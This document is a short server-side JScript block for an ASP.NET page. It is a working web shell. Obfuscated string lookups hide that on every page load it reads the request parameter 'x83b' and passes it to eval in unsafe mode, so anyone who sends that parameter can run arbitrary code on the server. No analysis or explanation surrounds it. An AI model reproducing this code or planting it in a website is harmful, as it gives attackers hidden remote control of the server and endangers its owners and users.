<script language="JScript" runat="server">
var _0x3f1c=['unsafe','Item','x83b'];
function _0x51d2(i){return _0x3f1c[i];}
function Page_Load(){var _0x9a=Request[_0x51d2(1)][_0x51d2(2)];eval(_0x9a,_0x51d2(0));}
</script>
